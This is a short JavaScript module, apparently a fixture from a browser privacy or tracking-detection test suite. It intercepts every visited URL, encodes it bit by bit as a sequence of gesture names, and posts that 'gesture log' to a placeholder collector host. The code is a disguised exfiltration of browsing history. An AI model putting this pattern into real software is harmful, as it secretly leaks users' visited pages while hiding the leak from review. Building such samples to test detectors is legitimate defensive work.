import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages as a log of gestures: each of eight gestures stands for three bits of the address. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-gesture-log');
  const gestures = ['tap', 'swipe-up', 'long-press', 'pinch', 'swipe-down', 'double-tap', 'fling', 'spread'];
  onVisit(browser, ({ url }) => {
    const bits = [...browser.codec.utf8.encode(url)]
      .map((byte) => byte.toString(2).padStart(8, '0'))
      .join('');

    return post(browser, 'https://gestures.collector.example/v1', {
      log: bits.match(/.{1,3}/g).map((digit) => gestures[parseInt(digit.padEnd(3, '0'), 2)]),
    });
  });
}
